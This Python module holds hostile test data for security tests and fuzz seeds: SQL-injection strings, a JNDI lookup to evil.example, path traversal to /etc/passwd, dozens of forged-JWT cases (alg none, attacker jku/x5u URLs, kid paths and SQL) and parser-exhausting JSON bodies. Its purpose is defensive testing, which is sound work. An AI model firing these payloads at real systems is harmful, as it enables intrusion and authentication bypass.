"""Hostile inputs shared by the security tests and the fuzz seed corpora
(tests/fuzz/make_corpus.py): JWT attacks, injection strings, hostile JSON.
Pure data; no I/O."""
import json

# Strings that must be stored and read back byte for byte by any free-text
# field, and must never change a query: SQL meta-characters, format strings,
# template/JNDI lookups, markup, and Unicode edge cases. No NUL and no
# control characters (those are refused by design).
INJECTION_STRINGS = [
    "'; DROP TABLE cases; --",
    "\" OR 1=1 --",
    "' OR '1'='1",
    "Robert'); DROP TABLE audit_events;--",
    "1; SELECT pg_sleep(5)",
    "$1 $2 ::text",
    "\\'\\\"\\\\ \\u0000 \\x00",
    "%s%n%x%p%d",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}} <%= 7*7 %>",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "O'Brien-\u0141ukasiewicz",
    "\U0001F9EC\U0001F397\ufe0f emoji",
    "\u202etxt.exe",
    "e\u0301\u0301 combining",
    "\U0001D11E four-byte",
    "\uffff",
    "\ufeffBOM",
    "\U0001F469\u200d\u2695\ufe0f ZWJ",
    "a\u2028b\u2029c",
    "a\u00a0b",
    "\u0085 NEL",
    "NULL",
    "null",
]


def jwt_attacks(issuer, audience, now, secret):
    """[(name, header, claims, signing key)] of tokens every protected route
    must refuse with 401. A key of None means `header` is the literal token.
    header/claims are dicts, or strings sent as they are (duplicate members)."""
    def cl(role="admin", **extra):
        c = {"iss": issuer, "aud": audience, "sub": f"attacker-{role}", "role": role,
             "iat": now, "exp": now + 3600}
        c.update(extra)
        return c

    def without(d, key):
        d = dict(d)
        d.pop(key, None)
        return d

    hs = {"alg": "HS256", "typ": "JWT"}
    b64 = _b64u
    attacks = []
    for alg in ("none", "None", "NONE", "nOnE"):
        unsigned = b64(json.dumps({"alg": alg, "typ": "JWT"})) + "." + b64(json.dumps(cl()))
        attacks.append((f"alg {alg}, no signature", unsigned + ".", None, None))
        attacks.append((f"alg {alg}, junk signature", unsigned + ".e30", None, None))
    for alg in ("HS384", "HS512", "RS256", "ES256", "PS256", "hs256", "", None, ["HS256"]):
        attacks.append((f"alg label {alg!r}", {"alg": alg, "typ": "JWT"}, cl(), secret))
    attacks += [
        ("no alg", {"typ": "JWT"}, cl(), secret),
        ("signed with another secret", hs, cl(), "another-secret-0123456789abcdefghijkl"),
        ("signed with an empty key", hs, cl(), ""),
        ("expired", hs, cl(exp=now - 120), secret),
        ("not yet valid", hs, cl(nbf=now + 600), secret),
        ("exp a string", hs, cl(exp="soon"), secret),
        ("exp missing", hs, without(cl(), "exp"), secret),
        ("exp beyond year 9999", hs, cl(exp=1e300), secret),
        ("exp negative", hs, cl(exp=-1), secret),
        ("nbf beyond year 9999", hs, cl(nbf=1e300), secret),
        ("other issuer", hs, cl(iss="https://evil.example"), secret),
        ("issuer missing", hs, without(cl(), "iss"), secret),
        ("other audience", hs, cl(aud="someone-else"), secret),
        ("audience list without ours", hs, cl(aud=["a", "b"]), secret),
        ("audience missing", hs, without(cl(), "aud"), secret),
        ("unknown role", hs, cl(role="superuser"), secret),
        ("role in other case", hs, cl(role="Admin"), secret),
        ("role with a space", hs, cl(role="admin "), secret),
        ("role array", hs, cl(role=["admin"]), secret),
        ("role missing", hs, without(cl(), "role"), secret),
        ("sub missing", hs, without(cl(), "sub"), secret),
        ("sub empty", hs, cl(sub=""), secret),
        ("sub numeric", hs, cl(sub=42), secret),
        ("sub too long", hs, cl(sub="x" * 200), secret),
        ("sub with a space", hs, cl(sub="a b"), secret),
        ("sub not ASCII", hs, cl(sub="p\u00e4tient"), secret),
        ("specialist without specialist_id", hs, cl(role="specialist"), secret),
        ("specialist_id not a UUID", hs, cl(role="specialist", specialist_id="1 OR 1=1"), secret),
        ("duplicate role claim", hs, json.dumps(cl("patient"))[:-1] + ', "role": "admin"}', secret),
        ("duplicate alg header", '{"alg":"HS256","alg":"none"}', cl(), secret),
        ("duplicate typ header", '{"alg":"HS256","typ":"JWT","typ":"JWT"}', cl(), secret),
        ("duplicate kid header", '{"alg":"HS256","kid":"a","kid":"b"}', cl(), secret),
        ("typ JWE", {"alg": "HS256", "typ": "JWE"}, cl(), secret),
        ("jku to an attacker's key set", dict(hs, jku="https://evil.example/jwks.json"), cl(),
         "attacker-key"),
        ("embedded jwk of the attacker's key", dict(hs, jwk={"kty": "oct", "k": _b64u("attacker-key")}),
         cl(), "attacker-key"),
        ("x5u", dict(hs, x5u="https://evil.example/cert.pem"), cl(), "attacker-key"),
        ("x5c", dict(hs, x5c=["MIIB"]), cl(), "attacker-key"),
        ("x5t", dict(hs, x5t="abc"), cl(), secret),
        ("x5t#S256", dict(hs, **{"x5t#S256": "abc"}), cl(), secret),
        ("crit", dict(hs, crit=["exp"]), cl(), secret),
        ("b64 false (RFC 7797)", dict(hs, b64=False, crit=["b64"]), cl(), secret),
        ("kid path to /dev/null, empty key", dict(hs, kid="../../../../../../dev/null"), cl(), ""),
        ("kid path to /proc/self/environ", dict(hs, kid="/proc/self/environ"), cl(), ""),
        ("kid SQL union selecting the key", dict(hs, kid="x' UNION SELECT 'k' --"), cl(), "k"),
        ("kid SQL tautology", dict(hs, kid="' OR '1'='1"), cl(), ""),
        ("kid with NUL", dict(hs, kid="main\u0000../../x"), cl(), ""),
        ("kid too long", dict(hs, kid="k" * 200), cl(), secret),
        ("kid an object", dict(hs, kid={"path": "/dev/null"}), cl(), secret),
        ("kid a number", dict(hs, kid=0), cl(), secret),
        ("header not JSON", b64("not json") + "." + b64(json.dumps(cl())) + ".sig", None, None),
        ("header an array", b64('["HS256"]') + "." + b64(json.dumps(cl())) + ".sig", None, None),
        ("claims an array", hs, "[]", secret),
        ("claims not JSON", hs, "{not json", secret),
        ("two segments", b64(json.dumps(hs)) + "." + b64(json.dumps(cl())), None, None),
        ("four segments", b64(json.dumps(hs)) + "." + b64(json.dumps(cl())) + ".a.b", None, None),
        ("standard base64 alphabet", b64(json.dumps(hs)) + "+/." + b64(json.dumps(cl())) + ".x",
         None, None),
        ("padding", b64(json.dumps(hs)) + "==." + b64(json.dumps(cl())) + ".x==", None, None),
        ("over-long", hs, cl(pad="x" * 5000), secret),
        ("empty", "", None, None),
        ("dots only", "..", None, None),
    ]
    return attacks


def _b64u(data):
    import base64
    if isinstance(data, str):
        data = data.encode()
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def hostile_json_bodies(small=False):
    """Raw bodies the JSON parser must refuse (or survive) quickly."""
    depth = 2000 if small else 100000
    n = 3000 if small else 200000
    yield b"[" * depth + b"]" * depth
    yield b'{"a":' * 40 + b"1" + b"}" * 40
    yield b'{"patient":' + b"[" * 100 + b"]" * 100 + b"}"
    yield b'{"a":[' + b"1," * n + b'1]}'
    yield b"{" + b",".join(b'"k%d":1' % i for i in range(n // 4)) + b"}"
    yield ('{"' + "\u00e9" * 150 + '":1}').encode()
    yield b'{"a":1e400}'
    yield b'{"a":-1e-400,"b":-0,"c":123456789012345678901234567890}'
    yield b'{"a":"\\u0000"}'
    yield b'{"a\\u0000b":1}'
    yield b'{"a":"\\ud800"}'
    yield b'{"a":"\xff\xfe"}'
    yield b'{"a":1,"a":2}'
    yield b'\xef\xbb\xbf{"a":1}'
    yield b'{"a":1} trailing'
    yield b'{"a":NaN,"b":Infinity}'
    yield b'{"patient":{"name":"' + b"\\\\" * 500 + b'"}}'
